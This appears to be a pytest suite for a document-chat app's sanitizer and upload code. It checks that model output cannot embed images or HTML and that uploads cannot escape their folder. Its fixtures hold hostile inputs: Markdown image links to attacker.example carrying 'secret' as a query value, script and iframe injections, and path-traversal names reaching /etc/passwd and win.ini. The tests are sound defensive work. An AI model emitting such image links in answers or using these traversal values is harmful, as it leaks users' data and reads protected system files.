"""Untrusted text in the page: model output, document text and uploaded file names."""

from __future__ import annotations

import re

import pytest

from app.ui.sanitize import (
    escape_markdown,
    file_inside,
    safe_filename,
    safe_markdown,
    safe_markdown_piece,
)
from app.ui.uploads import Upload, save_uploads

# What a Markdown renderer would turn into an <img> (inline or reference style) or an HTML tag.
IMAGE_SYNTAX = re.compile(r"!\[")
HTML_TAG = re.compile(r"<[A-Za-z/!?]")

HOSTILE_OUTPUTS = [
    "See ![logo](https://attacker.example/leak?q=secret) for details",
    "![x][ref]\n\n[ref]: https://attacker.example/p.png",
    '<img src="https://attacker.example/x.png">',
    "<script>alert(1)</script>",
    "<!-- comment --><iframe src=https://attacker.example></iframe>",
    "\\`![escaped backtick](https://attacker.example/a.png)`",  # code-span confusion
    "`code` then ![after code](https://attacker.example/b.png)",
    "```\nfenced\n``` ![after fence](https://attacker.example/c.png)",
]


@pytest.mark.parametrize("text", HOSTILE_OUTPUTS)
def test_model_output_cannot_embed_images_or_html(text):
    shown = safe_markdown(text)
    assert not IMAGE_SYNTAX.search(shown)
    assert not HTML_TAG.search(shown)


def test_streamed_pieces_stay_safe_when_syntax_is_split_across_tokens():
    tokens = ["Look: !", "[pic](https://attacker.example/", "x.png) and <", "img src=x>"]
    shown = "".join(safe_markdown_piece(t) for t in tokens)
    assert not IMAGE_SYNTAX.search(shown)
    assert not HTML_TAG.search(shown)


def test_ordinary_markdown_survives():
    text = "**Bold** answer [1], a [link](https://example.org) and `a < b` in code."
    shown = safe_markdown(text)
    assert "**Bold**" in shown and "[link](https://example.org)" in shown
    assert "`a <\u200b b`" not in shown  # "<" followed by a space is not a tag: left alone
    assert "`a < b`" in shown


def test_dollar_amounts_are_not_math_but_code_keeps_them():
    assert safe_markdown("costs $5 or $6") == "costs \\$5 or \\$6"
    assert safe_markdown("run `echo $HOME`") == "run `echo $HOME`"


def test_escape_markdown_makes_file_names_literal():
    name = "![x](https://attacker.example/a.png)<b>.md"
    shown = escape_markdown(name)
    assert not IMAGE_SYNTAX.search(shown) and "<b>" not in shown
    # Removing the escapes gives back the name exactly.
    assert re.sub(r"\\(.)", r"\1", shown) == name


@pytest.mark.parametrize(
    "name, expected",
    [
        ("report.pdf", "report.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("/abs/path/notes.md", "notes.md"),
        (".bashrc", "bashrc"),
        ("..", "upload"),
        ("", "upload"),
        ("a\x00b\x1bc.txt", "abc.txt"),
        ("<script>alert(1)</script>.html", "script.html"),  # "/" splits: basename
        ("my file (final).docx", "my file _final.docx"),
        ("x" * 300 + ".md", "x" * 117 + ".md"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name) == expected


def test_uploads_stay_in_their_folder_and_never_overwrite(tmp_path):
    docs = tmp_path / "docs"
    outside = tmp_path / "secret.txt"
    outside.write_text("keep me")
    uploads = [
        Upload("../secret.txt", b"attacker"),
        Upload("notes.md", b"# one"),
        Upload("notes.md", b"# two"),
        Upload(".hidden.md", b"dot"),
    ]
    result = save_uploads(uploads, docs, max_mb=1)
    assert outside.read_text() == "keep me"
    assert all(p.parent == docs for p in result.saved)
    assert sorted(p.name for p in docs.iterdir()) == ["hidden.md", "notes-2.md", "notes.md", "secret.txt"]
    assert (docs / "notes.md").read_bytes() == b"# one"
    assert (docs / "notes-2.md").read_bytes() == b"# two"


def test_uploads_over_the_limit_are_refused_with_the_setting_named(tmp_path):
    result = save_uploads([Upload("big.pdf", b"x" * 2_000_000)], tmp_path, max_mb=1)
    assert result.saved == []
    [(name, reason)] = result.rejected
    assert name == "big.pdf" and "DOCCHAT_UPLOAD_MAX_MB" in reason
    assert not any(tmp_path.iterdir())


def test_file_inside_refuses_escapes_and_links(tmp_path):
    root = tmp_path / "docs"
    root.mkdir()
    (root / "a.md").write_text("a")
    secret = tmp_path / "secret.txt"
    secret.write_text("s")
    (root / "link.md").symlink_to(secret)
    roots = {str(root)}
    assert file_inside(root, "a.md", roots) == (root / "a.md").resolve()
    assert file_inside(root, "../secret.txt", roots) is None
    assert file_inside(root, "link.md", roots) is None
    assert file_inside(tmp_path, "secret.txt", roots) is None  # a root nobody ingested
    assert file_inside(root, "missing.md", roots) is None


def test_only_links_a_cited_source_holds_stay_clickable():
    from app.ui.sanitize import only_links

    shown = only_links("See https://ok.example/a and [docs](https://evil.example/x), or www.other.example.",
                       ["https://ok.example/a"])
    assert "https://ok.example/a" in shown  # kept as a link
    assert "(https://evil.example/x)" not in shown and "docs" in shown  # the words stay, the link goes
    assert "www.other.example" not in shown and "www\u200b.other.example" in shown  # reads the same, not a link
